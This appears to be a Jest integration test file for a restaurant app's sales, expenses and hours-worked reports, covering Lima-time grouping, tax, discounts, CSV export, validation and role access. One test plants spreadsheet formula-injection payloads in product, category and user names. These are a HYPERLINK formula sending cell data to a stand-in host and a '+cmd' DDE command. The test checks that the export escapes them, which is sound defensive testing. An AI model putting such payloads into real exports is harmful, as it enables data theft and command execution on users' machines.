import { authedApi, seedStaff, STAFF, TEST_SECRET, tokenFor } from '../support/auth';
import { MENU, seedMenu, tenantApi, type TenantApi } from '../support/fixtures';
import { startTestApp, type TestApp } from '../support/test-app';
import { AGRUPAR, expected, load, type Ventas } from './oracle';

const ZONE = 'America/Lima';
const MARZO = 'desde=2026-03-01&hasta=2026-03-31';
/** Products added to the small menu: one with a comma and quotes in its name, one uncategorized. */
const PISCO = { id: 5, nombre: 'Pisco sour, "doble"', precio: 25.5 };
const SUELTO = { id: 6, precio: 3.1 };
const EFECTIVO = 1;
const TARJETA = 2;
const YAPE = 3;

interface Cuenta {
  id_comanda: number;
  saldo: number;
}

/** The case's comandas by name, with their ids. */
type Ids = Record<'a' | 'b' | 'abierta' | 'anulada' | 'reabierta' | 'f', number>;

describe('reportes: sales, expenses against sales, hours worked', () => {
  let t: TestApp;
  let tenants = 0;

  beforeAll(async () => {
    t = await startTestApp({
      FEATURE_REPORTES: 'true',
      FEATURE_COBROS: 'true',
      FEATURE_INVENTARIO: 'true',
    });
  });
  afterAll(() => t.close());

  async function fresh(
    features: Record<string, boolean> = {},
  ): Promise<{ api: TenantApi; slug: string; url: string }> {
    tenants += 1;
    const slug = `rep${tenants}`;
    await t.dbs.createTenant(slug, { features });
    await seedMenu(t.dbs, slug);
    const url = t.dbs.tenantUrl(slug);
    await t.dbs.query(
      url,
      `INSERT INTO categorias (nombre) VALUES ('Bar');
       INSERT INTO productos (nombre, precio, id_categoria, activo) VALUES
         ('Pisco sour, "doble"', 25.50, 2, true), ('Pan suelto', 3.10, NULL, true);
       INSERT INTO mate_primas (nombre, unidad) VALUES ('Pescado', 'kg');
       INSERT INTO receta_producto (id_producto, id_mat_prima, cantidad) VALUES (1, 1, 0.25);
       INSERT INTO stock_saldos (id_mat_prima, cantidad, valor, costo_promedio)
         VALUES (1, 100, 3000, 30);`,
    );
    return { api: tenantApi(t.http, slug), slug, url };
  }

  /** Sets a comanda's close (and its opening, an hour before) to a local instant. */
  const closedAt = (url: string, id: number, instant: string) =>
    t.dbs.query(
      url,
      `UPDATE comandas SET fec_apertura = $2::timestamptz - interval '1 hour', fec_cierre = $2
        WHERE id_comanda = $1`,
      [id, instant],
    );

  async function comanda(
    api: TenantApi,
    items: { id: number; cantidad: number }[],
    extra: object = {},
  ): Promise<number> {
    const res = await api
      .post('/comandas', {
        ...extra,
        items: items.map((i) => ({ id_producto: i.id, cantidad: i.cantidad })),
      })
      .expect(201);
    return (res.body as Cuenta).id_comanda;
  }

  const close = (api: TenantApi, id: number, pagos: object[]) =>
    api.put(`/comandas/${id}`, { action: 'cerrar', pagos }).expect(200);

  /**
   * The month of March 2026 in Lima: a comanda closed at 23:30 on the 10th (10% off, paid cash
   * and card with a tip), one at 00:30 on the 11th (S/ 10 off, Yape, to take away), an open one,
   * a voided one, one reopened and closed again, and one whose IGV rate is the day's (none
   * frozen: the rate changed on the 11th).
   */
  async function march(api: TenantApi, url: string): Promise<Ids> {
    await api.post('/cajas/1/sesiones', { monto_apertura: 100 }).expect(201);
    const a = await comanda(api, [{ id: MENU.ceviche.id, cantidad: 2 }], {
      id_mesa: 1,
      id_usuario: MENU.rosa,
    });
    await api
      .post(`/comandas/${a}/descuento`, { tipo: 'porcentaje', valor: 10, motivo: 'frecuente' })
      .expect(201);
    await close(api, a, [
      { id_metodo_pago: EFECTIVO, monto: 50 },
      { id_metodo_pago: TARJETA, monto: 18.4, propina: 5 },
    ]);
    await closedAt(url, a, '2026-03-10T23:30:00-05:00');

    const b = await comanda(
      api,
      [
        { id: MENU.lomo.id, cantidad: 1 },
        { id: PISCO.id, cantidad: 1 },
      ],
      { id_usuario: MENU.luis },
    );
    await api
      .post(`/comandas/${b}/descuento`, { tipo: 'monto', valor: 10, motivo: 'reclamo' })
      .expect(201);
    await close(api, b, [{ id_metodo_pago: YAPE, monto: 58 }]);
    await closedAt(url, b, '2026-03-11T00:30:00-05:00');

    const abierta = await comanda(api, [{ id: MENU.ceviche.id, cantidad: 5 }], { id_mesa: 2 });
    const anulada = await comanda(api, [{ id: MENU.lomo.id, cantidad: 3 }], { id_mesa: 3 });
    await api.delete(`/comandas/${anulada}?motivo=duplicada`).expect(200);
    // voided after a close, as the table routes could leave it: still never counted
    await t.dbs.query(
      url,
      `UPDATE comandas SET estado = 'cerrada', fec_cierre = '2026-03-12T20:00:00-05:00',
              fec_apertura = '2026-03-12T19:00:00-05:00' WHERE id_comanda = $1`,
      [anulada],
    );

    const reabierta = await comanda(
      api,
      [
        { id: MENU.ceviche.id, cantidad: 1 },
        { id: SUELTO.id, cantidad: 2 },
      ],
      { id_mesa: 2, id_usuario: MENU.rosa },
    );
    await close(api, reabierta, [{ id_metodo_pago: TARJETA, monto: 44.2 }]);
    await api.put(`/comandas/${reabierta}`, { action: 'abrir' }).expect(200);
    await close(api, reabierta, []);
    await closedAt(url, reabierta, '2026-03-11T13:15:00-05:00');

    const f = await comanda(api, [{ id: MENU.chicha.id, cantidad: 3 }], {
      id_mesa: 2,
      id_usuario: MENU.rosa,
    });
    await close(api, f, [{ id_metodo_pago: EFECTIVO, monto: 24 }]);
    await closedAt(url, f, '2026-03-20T13:00:00-05:00');
    await t.dbs.query(
      url,
      `UPDATE cuentas_comanda SET tasa_igv = NULL, tasa_recargo = NULL, paso_redondeo = NULL
        WHERE id_comanda = $1`,
      [f],
    );
    await t.dbs.query(
      url,
      `INSERT INTO tasas_igv (vigente_desde, tasa) VALUES ('2026-03-11', 0.10)`,
    );
    return { a, b, abierta, anulada, reabierta, f };
  }

  const ventas = async (api: TenantApi, query: string): Promise<Ventas> =>
    (await api.get(`/reportes/ventas?${query}`).expect(200)).body as Ventas;

  it('answers every grouping with the figures recomputed from the comandas', async () => {
    const { api, slug, url } = await fresh();
    await march(api, url);
    const data = await load(t.dbs, slug, ZONE);
    for (const agrupar of AGRUPAR) {
      const body = await ventas(api, `${MARZO}&agrupar=${agrupar}`);
      expect({ agrupar, body }).toEqual({
        agrupar,
        body: expected(data, '2026-03-01', '2026-03-31', agrupar, true),
      });
    }
  });

  it('computes discounts, net sales, the frozen and the day’s IGV rate, and food cost', async () => {
    const { api, url } = await fresh();
    await march(api, url);
    const dia = await ventas(api, `${MARZO}&agrupar=dia`);
    expect(dia.filas).toHaveLength(31);
    const day = (d: string) => dia.filas.find((f) => f.clave === d)!;
    // A: 2 × 38 = 76, 10% = 7.60, (76 − 7.60) / 1.18 = 57.966 → 57.97; 2 × 0.25 kg × 30 = 15
    expect(day('2026-03-10')).toEqual({
      clave: '2026-03-10',
      etiqueta: '10/03/2026',
      comandas: 1,
      unidades: null,
      venta_bruta: 76,
      descuentos: 7.6,
      venta_neta: 57.97,
      ticket_promedio: 68.4,
      costo_teorico: 15,
      food_cost: 25.88,
    });
    // B (68 − 10 = 58 → 49.15) and the reopened one (38 + 6.20 = 44.20 → 37.46), counted once
    expect(day('2026-03-11')).toMatchObject({
      comandas: 2,
      venta_bruta: 112.2,
      descuentos: 10,
      venta_neta: 86.61,
      ticket_promedio: 51.1,
      costo_teorico: 7.5,
    });
    // F: no rate frozen, the rate in force on March 20th (10%): 24 / 1.10 = 21.818 → 21.82
    expect(day('2026-03-20')).toMatchObject({ comandas: 1, venta_bruta: 24, venta_neta: 21.82 });
    expect(day('2026-03-12')).toMatchObject({ comandas: 0, venta_bruta: 0, ticket_promedio: null });
    expect(dia.totales).toEqual({
      comandas: 4,
      unidades: null,
      venta_bruta: 212.2,
      descuentos: 17.6,
      venta_neta: 166.4,
      ticket_promedio: 48.65,
      costo_teorico: 22.5,
      food_cost: 13.52,
    });
  });

  it('puts a close at 23:30 in Lima on that Lima day and one at 00:30 on the next', async () => {
    const { api, url } = await fresh();
    const ids = await march(api, url);
    const tenth = await ventas(api, 'desde=2026-03-10&hasta=2026-03-10&agrupar=hora');
    expect(tenth.totales.comandas).toBe(1);
    expect(tenth.filas.find((f) => f.clave === '23')).toMatchObject({
      etiqueta: '23:00',
      comandas: 1,
    });
    const eleventh = await ventas(api, 'desde=2026-03-11&hasta=2026-03-11&agrupar=hora');
    expect(eleventh.totales.comandas).toBe(2);
    expect(eleventh.filas.find((f) => f.clave === '0')).toMatchObject({ comandas: 1 });
    expect(eleventh.filas).toHaveLength(24);
    // in UTC both are on the 11th: the report does not read UTC days
    const [utc] = await t.dbs.query<{ d: string }>(
      url,
      `SELECT to_char(fec_cierre AT TIME ZONE 'UTC', 'YYYY-MM-DD') AS d FROM comandas WHERE id_comanda = $1`,
      [ids.a],
    );
    expect(utc.d).toBe('2026-03-11');
    const semana = await ventas(api, `${MARZO}&agrupar=semana`);
    expect(semana.filas.map((f) => f.clave)).toEqual([
      '2026-02-23',
      '2026-03-02',
      '2026-03-09',
      '2026-03-16',
      '2026-03-23',
      '2026-03-30',
    ]);
    expect(semana.filas[2]).toMatchObject({ etiqueta: 'Semana del 09/03/2026', comandas: 3 });
    const dsh = await ventas(api, `${MARZO}&agrupar=dia_semana_hora`);
    expect(dsh.filas).toHaveLength(168);
    // March 10th 2026 is a Tuesday
    expect(dsh.filas.find((f) => f.clave === '2-23')).toMatchObject({
      etiqueta: 'martes 23:00',
      comandas: 1,
    });
    const mes = await ventas(api, 'desde=2026-02-15&hasta=2026-04-02&agrupar=mes');
    expect(mes.filas.map((f) => [f.clave, f.etiqueta, f.comandas])).toEqual([
      ['2026-02', 'febrero 2026', 0],
      ['2026-03', 'marzo 2026', 4],
      ['2026-04', 'abril 2026', 0],
    ]);
  });

  it('never counts open or voided comandas, and counts a reopened one once', async () => {
    const { api, url } = await fresh();
    const ids = await march(api, url);
    const mesa = await ventas(api, `${MARZO}&agrupar=mesa`);
    // table 3 only had the voided one; table 2: the reopened one and F (the open one is not)
    expect(mesa.filas.map((f) => [f.clave, f.etiqueta, f.comandas, f.venta_bruta])).toEqual([
      ['1', 'Mesa 1', 1, 76],
      ['2', 'Mesa 2', 2, 68.2],
      ['para_llevar', 'Para llevar', 1, 68],
    ]);
    const producto = await ventas(api, `${MARZO}&agrupar=producto`);
    expect(producto.filas.find((f) => f.clave === String(MENU.ceviche.id))).toMatchObject({
      comandas: 2,
      unidades: 3,
      venta_bruta: 114,
    });
    expect(ids.abierta).toBeGreaterThan(0);
  });

  it('splits each comanda’s discount and net sale by its lines and its payments', async () => {
    const { api, url } = await fresh();
    await march(api, url);
    const categoria = await ventas(api, `${MARZO}&agrupar=categoria`);
    expect(categoria.filas.map((f) => [f.clave, f.etiqueta])).toEqual([
      ['1', 'Platos'],
      ['2', 'Bar'],
      ['sin_categoria', 'Sin categoría'],
    ]);
    // B's S/ 10 off: the pisco's share 25.50 / 68 = 3.75, its net 49.15 × 25.5 / 68 = 18.43
    expect(categoria.filas[1]).toMatchObject({
      comandas: 1,
      unidades: 1,
      venta_bruta: 25.5,
      descuentos: 3.75,
      venta_neta: 18.43,
      ticket_promedio: null,
      costo_teorico: 0,
      // no recipe, no theoretical cost recorded: no food cost rather than 0 %
      food_cost: null,
    });
    const metodo = await ventas(api, `${MARZO}&agrupar=metodo`);
    // cash: A’s 50 of 68.40 and F's 24; card: A’s 18.40 (and its tip of 5) and the reopened one
    expect(metodo.filas.map((f) => [f.etiqueta, f.comandas, f.venta_bruta, f.propinas])).toEqual([
      ['Efectivo', 2, 74, 0],
      ['Tarjeta', 2, 62.6, 5],
      ['Yape', 1, 58, 0],
    ]);
    // A's discount 7.60 × 50 / 68.40 = 5.5556 → 5.56 for cash
    expect(metodo.filas[0]).toMatchObject({ descuentos: 5.56, ticket_promedio: 37 });
    expect(metodo.totales).toMatchObject({ comandas: 4, venta_bruta: 212.2, propinas: 5 });
  });

  it('refuses agrupar=metodo while cobros is off, and leaves out the cost without inventario', async () => {
    const { api } = await fresh({ cobros: false, inventario: false });
    const res = await api.get('/reportes/ventas?agrupar=metodo').expect(400);
    expect(res.body).toMatchObject({
      code: 'REPORTE_REQUIERE_COBROS',
      detail: { agrupar: 'metodo', feature: 'cobros' },
    });
    const c = await comanda(api, [{ id: MENU.ceviche.id, cantidad: 1 }]);
    await api.put(`/comandas/${c}`, { action: 'cerrar' }).expect(200);
    const dia = await ventas(api, 'agrupar=dia');
    expect(dia.totales).toEqual({
      comandas: 1,
      unidades: null,
      venta_bruta: 38,
      descuentos: 0,
      venta_neta: 32.2,
      ticket_promedio: 38,
    });
    for (const fila of dia.filas) {
      expect(fila).not.toHaveProperty('costo_teorico');
      expect(fila).not.toHaveProperty('food_cost');
    }
  });

  it('defaults to this month’s days up to today, grouped by day', async () => {
    const { api } = await fresh();
    const body = await ventas(api, '');
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: ZONE }).format(new Date());
    expect(body).toMatchObject({
      desde: `${today.slice(0, 8)}01`,
      hasta: today,
      agrupar: 'dia',
      zona_horaria: ZONE,
    });
    expect(body.filas).toHaveLength(Number(today.slice(8, 10)));
  });

  it('answers the same rows as CSV: BOM, CRLF, quoted fields, the JSON names as header', async () => {
    const { api, url } = await fresh();
    await march(api, url);
    const json = await ventas(api, `${MARZO}&agrupar=producto`);
    const res = await api
      .get(`/reportes/ventas?${MARZO}&agrupar=producto`)
      .set('Accept', 'text/csv')
      .expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="ventas-producto-2026-03-01-2026-03-31.csv"',
    );
    // the JSON and the CSV of one URL are told apart by a cache
    expect(res.headers.vary).toMatch(/\bAccept\b/);
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    const records = res.text.slice(1).split('\r\n');
    expect(records.at(-1)).toBe('');
    const columns = [
      'clave',
      'etiqueta',
      'comandas',
      'unidades',
      'venta_bruta',
      'descuentos',
      'venta_neta',
      'ticket_promedio',
      'costo_teorico',
      'food_cost',
    ] as const;
    expect(records[0]).toBe(columns.join(','));
    expect(records.slice(1, -1)).toEqual(
      json.filas.map((f) =>
        columns
          .map((c) => {
            const v = f[c];
            if (v === null || v === undefined) return '';
            const text = String(v);
            return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
          })
          .join(','),
      ),
    );
    expect(res.text).toContain('5,"Pisco sour, ""doble""",1,1,25.5,3.75,18.43,,0,\r\n');
    expect(PISCO.nombre).toBe('Pisco sour, "doble"');

    const gastos = await api
      .get('/reportes/gastos?desde=2026-03-01&hasta=2026-03-31')
      .set('Accept', 'text/csv')
      .expect(200);
    expect(gastos.text).toBe(
      '\uFEFFclave,etiqueta,comandas,ventas,gastos\r\n2026-03,marzo 2026,4,212.2,0\r\n',
    );
    const asistencia = await api
      .get('/reportes/asistencia?desde=2026-03-01&hasta=2026-03-31')
      .set('Accept', 'text/csv')
      .expect(200);
    expect(asistencia.text).toBe(
      '\uFEFFid_usuario,nombre,apellido,dias_trabajados,minutos,horas,dias_incompletos\r\n',
    );
    // anything else than CSV is JSON
    const other = await api.get(`/reportes/ventas?${MARZO}`).set('Accept', 'text/html');
    expect(other.headers['content-type']).toMatch(/^application\/json/);
  });

  it('writes the names a spreadsheet would evaluate as formulas with a leading quote', async () => {
    const { api, url } = await fresh();
    const hyperlink = '=HYPERLINK("http://x.example/?d="&A1,"Ver")';
    await t.dbs.query(url, 'UPDATE productos SET nombre = $1 WHERE id_producto = $2', [
      hyperlink,
      MENU.ceviche.id,
    ]);
    await t.dbs.query(
      url,
      `UPDATE categorias SET nombre = '+cmd|'' /C calc''!A0' WHERE id_categoria = 1;
       UPDATE usuarios SET nombre = '@SUM(1+1)', apellido = '-2+3' WHERE id_usuario = ${MENU.rosa};`,
    );
    await api.post('/cajas/1/sesiones', { monto_apertura: 100 }).expect(201);
    const id = await comanda(api, [{ id: MENU.ceviche.id, cantidad: 1 }], {
      id_usuario: MENU.rosa,
    });
    await close(api, id, [{ id_metodo_pago: EFECTIVO, monto: 38 }]);
    await closedAt(url, id, '2026-03-10T13:00:00-05:00');
    const csv = async (agrupar: string) =>
      (
        await api
          .get(`/reportes/ventas?${MARZO}&agrupar=${agrupar}`)
          .set('Accept', 'text/csv')
          .expect(200)
      ).text;
    // the text shows as it is, nothing in it is a formula any more
    expect(await csv('producto')).toContain(`,"'=HYPERLINK(""http://x.example/?d=""&A1,""Ver"")",`);
    expect(await csv('categoria')).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(await csv('mozo')).toContain(`,'@SUM(1+1) -2+3,`);
    for (const text of [await csv('producto'), await csv('categoria'), await csv('mozo')]) {
      for (const field of text.slice(1).split('\r\n').join(',').split(','))
        expect(field).not.toMatch(/^"?[=+@]/);
    }
    // the JSON keeps the names as they are
    const json = await ventas(api, `${MARZO}&agrupar=producto`);
    expect(json.filas.map((f) => f.etiqueta)).toContain(hyperlink);
  });

  it('answers 400 naming the field for each bad input', async () => {
    const { api } = await fresh();
    const bad = async (path: string, message: RegExp) => {
      const res = await api.get(path).expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.detail).toEqual([expect.stringMatching(message)]);
    };
    for (const route of ['ventas', 'gastos', 'asistencia']) {
      await bad(`/reportes/${route}?desde=2026-02-30`, /^desde must be a date YYYY-MM-DD/);
      await bad(`/reportes/${route}?hasta=ayer`, /^hasta must be a date YYYY-MM-DD/);
      await bad(
        `/reportes/${route}?desde=2026-03-02&hasta=2026-03-01`,
        /^desde must not be after hasta/,
      );
      await bad(
        `/reportes/${route}?desde=2024-01-01&hasta=2026-01-01`,
        /^hasta must be at most 730 days after desde/,
      );
      await bad(`/reportes/${route}?limit=5`, /^property limit should not exist/);
    }
    await bad('/reportes/ventas?agrupar=semanal', /^agrupar must be one of the following values/);
    await bad('/reportes/ventas?agrupar=dia&agrupar=mes', /^agrupar must be given once/);
    await api.get('/reportes/ventas?desde=2024-01-01&hasta=2025-12-31').expect(200);
  });

  it('compares per month with the report_tickets and report_gastos store functions over a year', async () => {
    const { api, url } = await fresh();
    await march(api, url);
    // purchases around the year's and the months' edges in Lima
    await t.dbs.query(
      url,
      `INSERT INTO proveedores (razon_social) VALUES ('Terminal Pesquero');
       INSERT INTO compras (id_proveedor, fec_compra, total) VALUES
         (1, '2025-12-31T23:59:00-05:00', 10.00),
         (1, '2026-01-01T00:00:00-05:00', 120.50),
         (1, '2026-03-31T23:30:00-05:00', 80.25),
         (1, '2026-04-01T00:10:00-05:00', 19.99),
         (1, '2026-12-31T23:59:59-05:00', 1.01),
         (1, '2027-01-01T00:00:00-05:00', 999.00);`,
    );
    const res = await api.get('/reportes/gastos?desde=2026-01-01&hasta=2026-12-31').expect(200);
    const [{ tickets, gastos }] = await t.dbs.query<{
      tickets: { meses: { mes: number; tickets: number; total: number }[]; total: number };
      gastos: { meses: { mes: number; total: number }[]; total: number };
    }>(url, `SELECT report_tickets(2026, $1) AS tickets, report_gastos(2026, $1) AS gastos`, [
      ZONE,
    ]);
    expect(res.body.filas).toEqual(
      tickets.meses.map((m, i) => ({
        clave: `2026-${String(m.mes).padStart(2, '0')}`,
        etiqueta: expect.stringMatching(/ 2026$/),
        comandas: m.tickets,
        ventas: Number(m.total),
        gastos: Number(gastos.meses[i].total),
      })),
    );
    expect(res.body.totales).toEqual({
      comandas: 4,
      ventas: Number(tickets.total),
      gastos: Number(gastos.total),
    });
    expect(res.body.totales.gastos).toBe(221.75);
    expect(res.body.filas[2]).toMatchObject({ etiqueta: 'marzo 2026', gastos: 80.25 });
    // a range within the months counts its days only
    const part = await api.get('/reportes/gastos?desde=2026-03-11&hasta=2026-04-01').expect(200);
    expect(part.body.filas).toEqual([
      { clave: '2026-03', etiqueta: 'marzo 2026', comandas: 3, ventas: 136.2, gastos: 80.25 },
      { clave: '2026-04', etiqueta: 'abril 2026', comandas: 0, ventas: 0, gastos: 19.99 },
    ]);
    const defaults = await api.get('/reportes/gastos').expect(200);
    expect(defaults.body.filas).toHaveLength(12);
  });

  it('reports the hours worked as report_asistencia counts them', async () => {
    const { api, url } = await fresh();
    await t.dbs.query(
      url,
      `INSERT INTO asistencia_resumen_diario (id_usuario, fecha_trabajo, minutos, intervalos, marcas, incompleto)
       VALUES (1, '2026-03-02', 485, 1, 2, false), (1, '2026-03-03', 0, 0, 1, true),
              (2, '2026-03-02', 601, 2, 4, false), (2, '2026-02-28', 300, 1, 2, false)`,
    );
    const res = await api.get('/reportes/asistencia?desde=2026-03-01&hasta=2026-03-31').expect(200);
    expect(res.body).toEqual({
      desde: '2026-03-01',
      hasta: '2026-03-31',
      filas: [
        {
          id_usuario: 1,
          nombre: 'Rosa',
          apellido: 'Quispe',
          dias_trabajados: 2,
          minutos: 485,
          horas: 8.08,
          dias_incompletos: 1,
        },
        {
          id_usuario: 2,
          nombre: 'Luis',
          apellido: 'Rojas',
          dias_trabajados: 1,
          minutos: 601,
          horas: 10.02,
          dias_incompletos: 0,
        },
      ],
    });
    const [{ r }] = await t.dbs.query<{
      r: { personas: { id_usuario: number; minutos: number }[] };
    }>(url, `SELECT report_asistencia('2026-03-01', '2026-03-31') AS r`);
    expect(
      res.body.filas.map((f: { id_usuario: number; minutos: number }) => [f.id_usuario, f.minutos]),
    ).toEqual(r.personas.map((p) => [p.id_usuario, p.minutos]));
    const defaults = await api.get('/reportes/asistencia').expect(200);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: ZONE }).format(new Date());
    expect(defaults.body.hasta).toBe(today);
  });

  it('follows every later change of a comanda it has already counted', async () => {
    const { api, slug, url } = await fresh();
    const ids = await march(api, url);
    /** Every grouping of March equals the recomputation from the comandas as they are now. */
    const matches = async (step: string) => {
      const data = await load(t.dbs, slug, ZONE);
      for (const agrupar of AGRUPAR) {
        const body = await ventas(api, `${MARZO}&agrupar=${agrupar}`);
        expect({ step, agrupar, body }).toEqual({
          step,
          agrupar,
          body: expected(data, '2026-03-01', '2026-03-31', agrupar, true),
        });
      }
    };
    await matches('first read');
    const before = (await ventas(api, `${MARZO}&agrupar=mesa`)).totales.comandas;

    await api.put(`/comandas/${ids.reabierta}`, { action: 'abrir' }).expect(200);
    await matches('a comanda reopened');
    expect((await ventas(api, `${MARZO}&agrupar=mesa`)).totales.comandas).toBe(before - 1);

    await api
      .post(`/comandas/${ids.reabierta}/items`, { id_producto: PISCO.id, cantidad: 2 })
      .expect(201);
    await close(api, ids.reabierta, [{ id_metodo_pago: YAPE, monto: 51 }]);
    await closedAt(url, ids.reabierta, '2026-03-15T21:00:00-05:00');
    await matches('closed again with another line, on another day');

    await api
      .post(`/comandas/${ids.b}/descuento`, { tipo: 'monto', valor: 0, motivo: 'sin descuento' })
      .then((res) => expect([201, 409]).toContain(res.status));
    await t.dbs.query(url, `UPDATE cuentas_comanda SET descuento_valor = 4 WHERE id_comanda = $1`, [
      ids.b,
    ]);
    await matches('a discount changed');

    await t.dbs.query(
      url,
      `UPDATE pagos SET estado = 'anulado', motivo_anulacion = 'prueba', fec_anulacion = now()
        WHERE id_comanda = $1 AND id_metodo_pago = $2`,
      [ids.a, TARJETA],
    );
    await matches('a payment voided');

    await t.dbs.query(url, `UPDATE productos SET id_categoria = 2 WHERE id_producto = $1`, [
      MENU.ceviche.id,
    ]);
    await matches('a product moved to another category');

    await t.dbs.query(
      url,
      `INSERT INTO tasas_igv (vigente_desde, tasa) VALUES ('2026-03-15', 0.12)`,
    );
    await matches('a new IGV rate for the comanda without a frozen one');

    await t.dbs.query(
      url,
      `UPDATE comandas SET eliminada = true, fec_eliminacion = now() WHERE id_comanda = $1`,
      [ids.f],
    );
    await matches('a closed comanda voided');
    expect((await ventas(api, `${MARZO}&agrupar=mesa`)).totales.comandas).toBe(before - 1);
  });

  it('keeps each tenant’s figures to itself', async () => {
    const a = await fresh();
    const b = await fresh();
    await march(a.api, a.url);
    expect((await ventas(a.api, MARZO)).totales.comandas).toBe(4);
    const other = await ventas(b.api, `${MARZO}&agrupar=producto`);
    expect(other.filas).toEqual([]);
    expect(other.totales).toMatchObject({ comandas: 0, venta_bruta: 0, unidades: 0 });
  });

  it('is off for a tenant whose switch is off: 404 like a route that does not exist', async () => {
    const { api } = await fresh({ reportes: false });
    for (const route of ['ventas', 'gastos', 'asistencia']) {
      const res = await api.get(`/reportes/${route}`).expect(404);
      expect(res.body).toMatchObject({
        code: 'NOT_FOUND',
        error: `Cannot GET /api/v1/reportes/${route}`,
      });
    }
    expect((await api.get('/me').expect(200)).body.permissions).not.toContain('reportes:read');
  });
});

describe('reportes with AUTH_MODE=jwt: admin and cajero read them, mozo and cocina do not', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({
      AUTH_MODE: 'jwt',
      AUTH_JWT_SECRET: TEST_SECRET,
      FEATURE_REPORTES: 'true',
    });
    await t.dbs.createTenant('roles');
    await seedMenu(t.dbs, 'roles');
    await seedStaff(t.dbs, 'roles');
  });
  afterAll(() => t.close());

  it.each([
    ['admin', 200],
    ['cajero', 200],
    ['mozo', 403],
    ['cocina', 403],
  ] as const)('%s → %i on every report', async (role, status) => {
    const api = authedApi(t.http, 'roles', tokenFor('roles', STAFF[role].id));
    for (const route of ['ventas', 'gastos', 'asistencia']) {
      const res = await api.get(`/reportes/${route}`).expect(status);
      if (status === 403) expect(res.body.code).toBe('FORBIDDEN');
    }
    const me = await api.get('/me').expect(200);
    if (status === 200) expect(me.body.permissions).toContain('reportes:read');
    else expect(me.body.permissions).not.toContain('reportes:read');
  });

  it('asks for a token', async () => {
    await authedApi(t.http, 'roles').get('/reportes/ventas').expect(401);
  });
});
